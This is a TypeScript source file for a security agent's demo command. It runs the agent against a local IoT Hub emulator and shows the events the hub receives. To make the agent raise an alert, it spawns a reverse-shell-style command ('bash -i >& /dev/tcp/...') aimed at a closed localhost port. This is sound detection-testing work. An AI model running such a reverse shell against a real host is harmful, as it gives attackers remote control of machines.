import { spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { systemClock } from '../../core/base/clock.ts';
import { askControlSocket } from '../../core/base/control-socket.ts';
import { type Duration, days, milliseconds, seconds } from '../../core/base/duration.ts';
import { readable } from '../../core/base/log.ts';
import { printable } from '../../core/base/text.ts';
import { durationOption, readArguments, type World } from '../../core/command-line/command.ts';
import { type DeliveryCounts, describeDelivery } from '../../core/command-line/describe.ts';
import type { Spelling } from '../../core/contract/setting-kinds.ts';
import type { SettingId } from '../../core/contract/settings.ts';
import { twinDialect } from '../../core/twin/published-object.ts';
import type { RunningPage } from '../command.ts';
import { type Say, sayTo, showArrivals } from '../demo-output.ts';
import type { HubEmulator } from '../hub.ts';
import { PAGE_OPTIONS, pageOpener } from './emulator.ts';

export const summary = 'Run the agent against a local hub, and show live what the hub receives.';
export const usage = `vakt demo [--duration DURATION] [--page-port N | --no-page]

  --duration DURATION   how long, as ISO 8601 (PT30S); default until Ctrl-C
  --page-port N         port of the page that shows the same in a browser; default any free one
  --no-page             do not serve the page`;

const DEVICE = 'demo-device';
const MODULE = 'azureiotsecurity';
const DIALECT = twinDialect();
const desired = (settings: readonly [SettingId, Spelling][]) => DIALECT.write(new Map(settings));

/** Short frequencies, so that events appear soon: the defaults send every 7 minutes and 5 hours. */
const FIRST_DESIRED = desired([
  ['highPriorityMessageFrequency', 'PT2S'],
  ['lowPriorityMessageFrequency', 'PT3S'],
  ['aggregationInterval.ProcessCreate', 'PT4S'],
  ['aggregationInterval.ConnectionCreate', 'PT4S'],
]);
/** A desired property that the demo changes while it runs. */
const CHANGE = desired([['aggregationEnabled.ProcessCreate', false]]);

const AGENT = fileURLToPath(new URL('../../agent/main.js', import.meta.url));

/** The agent is killed this long after SIGTERM. */
const TIME_LIMIT = seconds(20);

const WITHOUT_ROOT =
  "You are not root, so kernel audit records cannot be read: short-lived processes and connections are missed, and the programs of other users' processes and sockets are unknown. Run the demo as root to see them.";

export async function run(args: readonly string[], world: World): Promise<number> {
  const { values } = readArguments(args, { duration: { type: 'string' }, ...PAGE_OPTIONS });
  const duration = values.duration === undefined ? days(365) : durationOption('duration', values.duration);
  const openPage = pageOpener(values);
  const { HubEmulator } = await import('../hub.ts');
  const directory = mkdtempSync(join(tmpdir(), 'vakt-demo-'));
  const key = randomBytes(32).toString('base64');
  const hub = await HubEmulator.start({ modules: [{ deviceId: DEVICE, moduleId: MODULE, primaryKey: key }] });
  let page: RunningPage | undefined;
  try {
    hub.patchDesired(DEVICE, MODULE, DIALECT.sectionWith(FIRST_DESIRED));
    page = await openPage?.(hub);
    return await show(hub, { configFile: writeConfiguration(directory, hub, key), duration, page }, world);
  } finally {
    await page?.close();
    await hub.stop();
    rmSync(directory, { recursive: true, force: true });
  }
}

/** Writes all files that the agent needs into `directory`. @returns the path of the configuration file */
function writeConfiguration(directory: string, hub: HubEmulator, key: string): string {
  const write = (name: string, contents: string) => {
    const file = join(directory, name);
    writeFileSync(file, contents, { mode: 0o600 });
    return file;
  };
  const configuration = {
    hub: {
      hostName: hub.hostName,
      gatewayHostName: `localhost:${hub.port}`,
      trustedCaFile: write('ca.pem', hub.caPem),
    },
    identity: { kind: 'moduleKey', deviceId: DEVICE, moduleId: MODULE, keyFile: write('module.key', `${key}\n`) },
    stateDirectory: join(directory, 'state'),
    controlSocket: join(directory, 'control.sock'),
    limits: { shortestMessageFrequency: 'PT1S', shortestSnapshotFrequency: 'PT1S', messageUnitsPerDay: 0 },
  };
  return write('agent.json', JSON.stringify(configuration, null, 2));
}

interface Show {
  readonly configFile: string;
  readonly duration: Duration;
  readonly page: RunningPage | undefined;
}

async function show(hub: HubEmulator, { configFile, duration, page }: Show, world: World): Promise<number> {
  let footer = page === undefined ? '' : `The page: ${page.address}`;
  const say = sayTo(world, systemClock, () => footer);
  say(
    'demo',
    `A local IoT Hub listens on localhost:${hub.port}; the agent connects to it over TLS as ${DEVICE}/${MODULE}.`,
  );
  say('demo', 'The messages that the hub receives appear below. Start programs in another terminal to see them.');
  if (page !== undefined) say('demo', `Open ${page.address} to see it in a browser and to change settings.`);
  if (process.getuid?.() !== 0) say('demo', WITHOUT_ROOT);
  const seen = showArrivals(hub, say);
  const agent = startAgent(configFile, say, world.environment);
  try {
    await untilTheEnd(hub, agent.ended, duration, say, world.signal);
    await showDelivery(dirname(configFile), say);
  } finally {
    footer = '';
    if (page !== undefined) say('demo', `The agent stops, and ${page.address} ends with it.`);
    await agent.stop();
  }
  const status = await agent.ended;
  say(
    'demo',
    `The agent exited with status ${status}. The hub received ${hub.messages.length} messages with these events:`,
  );
  for (const [name, count] of [...seen].sort()) say('', `${name.padEnd(24)}${count}`);
  return status === 0 && hub.messages.length > 0 ? 0 : 1;
}

/**
 * Generates events once the agent is connected, until `duration` has passed, the agent has exited, or `stop` aborts.
 */
async function untilTheEnd(
  hub: HubEmulator,
  agentEnded: Promise<unknown>,
  duration: Duration,
  say: Say,
  stop: AbortSignal,
): Promise<void> {
  const end = new AbortController();
  const signal = AbortSignal.any([stop, end.signal]);
  void agentEnded.then(() => end.abort());
  const connected = new Promise<void>((resolve) => {
    hub.once('connection', () => resolve());
    signal.addEventListener('abort', () => resolve());
  });
  await Promise.all([
    systemClock.sleep(duration, signal).then(() => end.abort()),
    connected.then(() => runPrograms(say, signal)),
    connected.then(async () => {
      await systemClock.sleep(milliseconds(Math.min(seconds(10), duration / 3)), signal);
      if (signal.aborted) return;
      say(
        'demo',
        `Changing a desired property: ${JSON.stringify(CHANGE)}; from now on every start is listed separately.`,
      );
      hub.patchDesired(DEVICE, MODULE, DIALECT.sectionWith(CHANGE));
    }),
  ]);
}

/**
 * Shows the agent's event counts as `vakt status` does, even after Ctrl-C.
 */
async function showDelivery(directory: string, say: Say): Promise<void> {
  const status = await askControlSocket(join(directory, 'control.sock'), '/status').catch(() => undefined);
  if (status !== undefined) say('status', describeDelivery((status as { delivery: DeliveryCounts }).delivery));
}

interface Agent {
  /** Its exit status; `null` if it was killed by a signal or could not be started. */
  readonly ended: Promise<number | null>;
  /** Resolves when it has exited; kills it if necessary. */
  stop(): Promise<void>;
}

/** Starts the agent as a child process, and shows its log. */
function startAgent(configFile: string, say: Say, environment: NodeJS.ProcessEnv): Agent {
  const child = spawn(process.execPath, [...process.execArgv, AGENT, 'run', '--config', configFile], {
    stdio: ['ignore', 'pipe', 'inherit'],
    env: withoutSettings(environment),
  });
  let rest = '';
  child.stdout.setEncoding('utf8').on('data', (chunk: string) => {
    const lines = `${rest}${chunk}`.split('\n');
    rest = lines.pop() ?? '';
    for (const line of lines) say('agent', printable(asText(line)));
  });
  const kill = () => void child.kill('SIGKILL');
  process.once('exit', kill); // a second Ctrl-C exits immediately
  const ended = new Promise<number | null>((resolve) => {
    child.on('error', () => resolve(null));
    child.on('exit', (status) => resolve(status));
  }).finally(() => process.off('exit', kill));
  return {
    ended,
    async stop() {
      child.kill('SIGTERM');
      await systemClock.within(TIME_LIMIT, 'the end of the agent', ended).catch(kill);
      await ended;
    },
  };
}

/** Removes variables that would override the demo's configuration file or direct its connections to a proxy. */
const withoutSettings = (environment: NodeJS.ProcessEnv): NodeJS.ProcessEnv =>
  Object.fromEntries(Object.entries(environment).filter(([name]) => !/^(?:VAKT_.*|HTTPS_PROXY)$/i.test(name)));

function asText(line: string): string {
  try {
    return readable(line).trimEnd().slice('hh:mm:ss '.length);
  } catch {
    return line;
  }
}

/**
 * Looks like a reverse shell but is harmless: no process listens on that local port, so the shell exits immediately. It
 * waits first, because without root the agent detects only processes that run for at least a second.
 */
const LIKE_AN_ATTACK = 'sleep 2\nbash -i >& /dev/tcp/127.0.0.1/1 0>&1';

/** Starts programs, so that even an idle machine has events, and once a command that must raise an alert. */
async function runPrograms(say: Say, signal: AbortSignal): Promise<void> {
  await systemClock.sleep(seconds(3), signal);
  if (!signal.aborted) {
    say(
      'demo',
      'Ran a command that looks like a reverse shell, to a closed port of this machine: the agent raises an alert.',
    );
    spawn('/bin/sh', ['-c', LIKE_AN_ATTACK], { stdio: 'ignore' }).on('error', () => {});
  }
  while (!signal.aborted) {
    say('demo', 'Ran: sleep 2');
    spawn('/bin/sleep', ['2'], { stdio: 'ignore' }).on('error', () => {});
    await systemClock.sleep(seconds(5), signal);
  }
}
